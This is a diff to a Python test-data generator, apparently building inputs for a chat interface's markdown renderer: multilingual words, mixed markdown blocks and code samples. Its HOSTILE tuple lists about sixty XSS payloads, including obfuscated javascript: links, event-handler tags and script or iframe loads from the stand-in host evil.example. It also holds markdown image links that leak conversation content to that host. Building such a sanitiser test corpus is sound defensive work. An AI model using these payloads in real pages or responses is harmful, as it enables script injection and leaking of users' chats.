@@ -2,12 +2,61 @@
 
 import random
 
-WORDS = (
-    "the model answers in small pieces and each of them arrives alone while rivers bend around old hills "
-    "café naïve straße 日本語 ストリーミング 応答 東京 🎉 👩‍👩‍👧 🇯🇵 e\u0301 مرحبا שלום **bold** *it* `code` ~~gone~~ "
-    "[link](https://example.com/a?b=1&amp;c=2) [ref] [other ref][ref2] <br> &copy; &#x1F600; https://example.org "
-    "$x^2$ \\(a+b\\) $5 and_under_score __strong__ 3*4*5 <b>html</b> ![pic](https://example.com/p.png) a\\*b [^1]"
-).split(" ")
+WORDS = [
+    "the",
+    "model",
+    "answers",
+    "in",
+    "small",
+    "pieces",
+    "and",
+    "each",
+    "of",
+    "them",
+    "arrives",
+    "alone",
+    "while",
+    "rivers",
+    "bend",
+    "around",
+    "old",
+    "hills",
+    "café",
+    "naïve",
+    "straße",
+    "日本語",
+    "ストリーミング",
+    "応答",
+    "東京",
+    "🎉",
+    "👩\u200d👩\u200d👧",
+    "🇯🇵",
+    "é",
+    "مرحبا",
+    "שלום",
+    "**bold**",
+    "*it*",
+    "`code`",
+    "~~gone~~",
+    "[link](https://example.com/a?b=1&amp;c=2)",
+    "[ref]",
+    "[other",
+    "ref][ref2]",
+    "<br>",
+    "&copy;",
+    "&#x1F600;",
+    "https://example.org",
+    "$x^2$",
+    "\\(a+b\\)",
+    "$5",
+    "and_under_score",
+    "__strong__",
+    "3*4*5",
+    "<b>html</b>",
+    "![pic](https://example.com/p.png)",
+    "a\\*b",
+    "[^1]",
+]
 LANGUAGES = ("python", "js", "", "html", "unknown", "json", "bash")
 
 
@@ -104,6 +153,89 @@ def random_document(chance: random.Random) -> str:
     return text.replace("\n", "\r\n") if chance.random() < 0.1 else text
 
 
-def hostile(attacker: str) -> str:
-    """Everything that has run or fetched something in one chat page or another; `attacker` is an origin."""
-    return ""
+def long_mixed(size: int) -> str:
+    """Headings, paragraphs, lists, tables, code and quotes, about `size` characters of them."""
+    chance = random.Random(7)  # noqa: S311 - a document, not a secret
+    parts: list[str] = []
+    while sum(map(len, parts)) < size:
+        block = chance.choice([_heading, _paragraph, _paragraph, _list, _code, _table, _quote])(chance)
+        closed = block if block.count("```") % 2 == 0 and block.count("~~~") % 2 == 0 else _paragraph(chance)
+        parts.append(f"{closed}\n\n")
+    return "".join(parts)
+
+
+def long_code(size: int) -> str:
+    """One block of Python, about `size` characters."""
+    function = """def handle_{n}(event: dict[str, str], context: object) -> str:
+    # Step {n}: look at what came in
+    values = [item for item in event.values() if len(item) > {n}]
+    return f"{{len(values)}} of {{len(event)}}"
+
+
+"""
+    count = size // len(function)
+    return "```python\n" + "".join(function.format(n=n) for n in range(count)) + "```\n"
+
+
+EVIL = "https://evil.example"
+HOSTILE = (
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](java&#115;cript:alert(1))",
+    "[click](&#x6A;avascript&colon;alert(1))",
+    "[click](javascript&#58;alert(1))",
+    "[click]( javascript:alert(1))",
+    "[click](\x01javascript:alert(1))",
+    "[click](java\tscript:alert(1))",
+    "[click](<java\tscript:alert(1)>)",
+    "[click](vbscript:msgbox(1))",
+    "[click](data:text/html,<script>alert(1)</script>)",
+    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[click](blob:https://example.com/x)",
+    "[click](file:///etc/passwd)",
+    "[click][ref]\n\n[ref]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    '<https://example.com/" onmouseover=alert(1) x=">',
+    '[a](https://example.com "x" onmouseover="alert(1)")',
+    "[a](https://example.com'onclick='alert(1))",
+    '<img src=x onerror="alert(1)">',
+    "<img src=x onerror=alert(1)//",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    f"<script src={EVIL}/x.js></script>",
+    f"<style>@import url({EVIL}/x.css);</style>",
+    f'<div style="background:url({EVIL}/x.png)">x</div>',
+    f"<link rel=stylesheet href={EVIL}/x.css>",
+    f"<iframe src={EVIL}></iframe>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    f"<object data={EVIL}/x.swf></object><embed src={EVIL}/x>",
+    f"<video src={EVIL}/x.mp4 autoplay onerror=alert(1)></video>",
+    f"<form action={EVIL}><input name=x autofocus onfocus=alert(1)></form>",
+    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    f"<base href={EVIL}/>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "&lt;img src=x onerror=alert(1)&gt;",
+    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    f"![secret]({EVIL}/?q=what-we-talked-about)",
+    f"![secret][pic]\n\n[pic]: {EVIL}/?q=secret",
+    f"[![x]({EVIL}/a.png)]({EVIL}/b)",
+    "![x](data:image/svg+xml,<svg onload=alert(1)>) ![y](javascript:alert(1))",
+    "```html\n<img src=x onerror=alert(1)>\n```",
+    '```" onclick=alert(1) x="\ncode\n```',
+    "```<img/src=x/onerror=alert(1)>\ncode\n```",
+    "`<img src=x onerror=alert(1)>`",
+    "| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |",
+    "- [x] <img src=x onerror=alert(1)>",
+    "$\\href{javascript:alert(1)}{x}$",
+    "$$\n\\text{<img src=x onerror=alert(1)>}\n$$",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "__proto__ [constructor] [__proto__]\n\n[__proto__]: https://example.com",
+)
+"""Everything that has run or fetched something in one chat page or another."""
